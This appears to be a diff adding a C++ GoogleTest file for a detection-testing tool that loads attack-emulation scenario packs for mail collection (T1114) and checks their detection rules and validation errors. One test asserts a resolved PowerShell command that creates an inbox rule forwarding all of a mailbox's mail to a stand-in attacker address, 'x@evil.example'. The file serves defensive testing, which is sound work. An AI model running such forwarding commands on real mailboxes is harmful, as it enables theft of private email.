@@ -1,0 +1,119 @@
+#include "scenarios/pack.h"
+
+#include <gtest/gtest.h>
+
+#include <filesystem>
+
+namespace attest::scenarios {
+namespace {
+namespace fs = std::filesystem;
+
+std::string dump(const Problems& ps) {
+    std::string out;
+    for (const auto& p : ps.items()) out += p.format() + "\n";
+    return out;
+}
+
+bool has(const Problems& ps, const std::string& code, const std::string& file_suffix,
+         std::uint64_t line, const std::string& fragment) {
+    for (const auto& p : ps.items()) {
+        bool file_ok = p.file.size() >= file_suffix.size() &&
+                       p.file.compare(p.file.size() - file_suffix.size(), file_suffix.size(), file_suffix) == 0;
+        if (p.code == code && file_ok && p.line == line && p.format().find(fragment) != std::string::npos)
+            return true;
+    }
+    return false;
+}
+
+TEST(PackTest, ShippedT1114PackHasNoProblems) {
+    Problems problems;
+    auto pack = load_pack(ATTEST_SOURCE_DIR "/scenarios/t1114", problems);
+    ASSERT_TRUE(pack) << pack.error().message;
+    check_pack_queries(*pack, problems);
+    EXPECT_EQ(problems.items().size(), 0u) << dump(problems);
+    EXPECT_EQ(pack->tests().size(), 6u);
+    EXPECT_EQ(pack->checks.size(), 6u);
+    // The four Windows scenarios of the detection card and two Linux ones.
+    std::size_t windows = 0, linux_tests = 0;
+    for (const auto* t : pack->tests()) {
+        windows += t->platforms == std::vector<std::string>{"windows"};
+        linux_tests += t->platforms == std::vector<std::string>{"linux"};
+    }
+    EXPECT_EQ(windows, 4u);
+    EXPECT_EQ(linux_tests, 2u);
+    auto s1 = pack->checks_for(*pack->find_test("23df3cbb-43ee-4bd5-a013-21ce438ed77f"));
+    ASSERT_EQ(s1.detections.size(), 1u);
+    EXPECT_EQ(s1.detections[0].profile, Profile::Endpoint);
+    EXPECT_TRUE(s1.detections[0].expect_fires);
+    // The seed rule, verbatim.
+    EXPECT_EQ(s1.detections[0].query.rfind("sequence by host.name with maxspan=5m\n", 0), 0u);
+    EXPECT_NE(s1.detections[0].query.find("] by process.entity_id"), std::string::npos);
+    auto s3 = pack->checks_for(*pack->find_test("Remote Exchange mailbox enumeration via an EWS SOAP FindItem request"));
+    EXPECT_TRUE(expectations::is_secret_argument(s3, "password"));
+    EXPECT_FALSE(expectations::is_secret_argument(s3, "username"));
+    EXPECT_EQ(pack->lab_files, std::vector<std::string>{"lab/auditd.rules"});
+}
+
+TEST(PackTest, ShippedPackArgumentsResolve) {
+    Problems problems;
+    auto pack = load_pack(ATTEST_SOURCE_DIR "/scenarios/t1114", problems);
+    ASSERT_TRUE(pack);
+    const auto* t = pack->find_test("8b986d4a-4577-4d17-a4e8-404b81b0d4d0");
+    ASSERT_NE(t, nullptr);
+    auto r = resolve_test(*t, {{"forward_to", "x@evil.example"}}, pack->atomics_folder);
+    ASSERT_TRUE(r) << r.error().message;
+    EXPECT_NE(r->command.find("New-InboxRule -Name \"attest-forward-all\" -Mailbox \"attest.user@contoso.onmicrosoft.com\" -ForwardTo \"x@evil.example\""),
+              std::string::npos) << r->command;
+    // Cleanup runs in a new process: everything it needs comes from arguments.
+    EXPECT_NE(r->cleanup_command.find("Remove-InboxRule -Mailbox \"attest.user@contoso.onmicrosoft.com\" -Identity \"attest-forward-all\""),
+              std::string::npos);
+    EXPECT_EQ(r->cleanup_command.find("#{"), std::string::npos);
+}
+
+TEST(PackTest, StockAtomicsFolderIsAPackWithoutExpectations) {
+    std::string dir = ATTEST_SOURCE_DIR "/../shared/data/atomics";
+    if (!fs::exists(dir)) GTEST_SKIP() << "../shared/data absent";
+    Problems problems;
+    auto pack = load_pack(dir, problems);
+    ASSERT_TRUE(pack);
+    EXPECT_EQ(problems.error_count(), 0u) << dump(problems);
+    EXPECT_EQ(pack->tests().size(), 89u);
+    EXPECT_TRUE(pack->checks.empty());
+}
+
+TEST(PackTest, BrokenPackListsEveryProblemWithPositions) {
+    Problems problems;
+    auto pack = load_pack(ATTEST_SOURCE_DIR "/tests/data/packs/broken", problems);
+    ASSERT_TRUE(pack);
+    check_pack_queries(*pack, problems);
+    const std::string atomic = "T1114.001/T1114.001.yaml";
+    const std::string exp = "broken/expectations.yaml";
+    EXPECT_TRUE(has(problems, "E003", atomic, 1, "T1114-001")) << dump(problems);
+    EXPECT_TRUE(has(problems, "E016", atomic, 11, "directory")) << dump(problems);
+    EXPECT_TRUE(has(problems, "E005", atomic, 15, "#{mail_spool}")) << dump(problems);
+    EXPECT_TRUE(has(problems, "E007", atomic, 14, "sudo")) << dump(problems);
+    EXPECT_TRUE(has(problems, "E011", atomic, 17, "0a0a0a0a-1111-2222-3333-444444444444")) << dump(problems);
+    EXPECT_TRUE(has(problems, "W008", atomic, 22, "comand")) << dump(problems);
+    EXPECT_TRUE(has(problems, "E013", atomic, 21, "needs a 'command'")) << dump(problems);
+    EXPECT_TRUE(has(problems, "E114", exp, 6, "sysmn")) << dump(problems);
+    EXPECT_TRUE(has(problems, "E113", exp, 8, "duplicate expectation id")) << dump(problems);
+    EXPECT_TRUE(has(problems, "E111", exp, 10, "#{nope}")) << dump(problems);
+    EXPECT_TRUE(has(problems, "E104", exp, 11, "missing 'query'")) << dump(problems);
+    EXPECT_TRUE(has(problems, "E105", exp, 13, "5 minutes")) << dump(problems);
+    EXPECT_TRUE(has(problems, "E115", exp, 17, "min_count")) << dump(problems);
+    EXPECT_TRUE(has(problems, "E130", exp, 14, "expectation 'e4'")) << dump(problems);
+    EXPECT_TRUE(has(problems, "E117", exp, 19, "missing.eql")) << dump(problems);
+    EXPECT_TRUE(has(problems, "E106", exp, 22, "defend")) << dump(problems);
+    EXPECT_TRUE(has(problems, "E116", exp, 23, "maybe")) << dump(problems);
+    EXPECT_TRUE(has(problems, "E130", exp, 21, "bad.eql")) << dump(problems);
+    EXPECT_TRUE(has(problems, "E103", exp, 24, "ffffffff-ffff-ffff-ffff-ffffffffffff")) << dump(problems);
+    EXPECT_EQ(problems.error_count(), 18u) << dump(problems);
+}
+
+TEST(PackTest, MissingPathIsAnError) {
+    Problems problems;
+    EXPECT_FALSE(load_pack("/nonexistent/pack", problems));
+}
+
+}  // namespace
+}  // namespace attest::scenarios
